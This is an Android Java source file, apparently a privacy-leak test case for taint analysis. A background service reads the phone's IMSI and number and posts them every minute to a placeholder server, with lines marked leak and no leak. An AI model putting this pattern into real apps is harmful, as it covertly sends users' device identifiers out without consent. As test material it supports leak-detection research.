package olden;

import android.app.*;
import android.content.*;
import android.os.*;
import android.telephony.TelephonyManager;

import org.apache.http.*;
import org.apache.http.client.entity.UrlEncodedFormEntity;
import org.apache.http.client.methods.*;
import org.apache.http.impl.client.DefaultHttpClient;
import org.apache.http.message.BasicNameValuePair;

import java.util.*;

/** An identity kept by a singleton and registered as a form. */
public class Enrolled extends Activity {
    static class Conf {
        private static Conf me;
        static String server = "http://s.example.org/reg.php";
        private String a, b, ver = "1.2";

        static synchronized Conf get(Context c) {
            if (me == null) {
                me = new Conf();
                me.load(c);
            }
            return me;
        }

        private void load(Context c) {
            TelephonyManager t = (TelephonyManager) c.getSystemService("phone");
            a = t.getSubscriberId();
            if (a == null || a.length() == 0) a = "none";
            b = t.getLine1Number();
        }
    }

    protected void onCreate(Bundle s) {
        super.onCreate(s);
        Conf.get(this);
        startService(new Intent(this, Srv.class));
    }

    public static class Srv extends Service implements Runnable {
        public IBinder onBind(Intent i) {
            return null;
        }

        public void onStart(Intent i, int id) {
            new Thread(this).start();
        }

        public void run() {
            while (true) {
                try {
                    go();
                    hello();
                    Thread.sleep(60000);
                } catch (Exception e) {
                }
            }
        }

        void go() throws Exception {
            Conf c = Conf.get(this);
            List<NameValuePair> l = new ArrayList<NameValuePair>(3);
            l.add(new BasicNameValuePair("imsi", c.a));
            l.add(new BasicNameValuePair("num", c.b));
            HttpPost p = new HttpPost(Conf.server);
            p.setEntity(new UrlEncodedFormEntity(l, "UTF-8"));
            new DefaultHttpClient().execute(p); // leak
        }

        void hello() throws Exception {
            Conf c = Conf.get(this);
            List<NameValuePair> l = new ArrayList<NameValuePair>(1);
            l.add(new BasicNameValuePair("v", c.ver));
            HttpPost p = new HttpPost(Conf.server);
            p.setEntity(new UrlEncodedFormEntity(l, "UTF-8"));
            new DefaultHttpClient().execute(p); // no leak
        }
    }
}
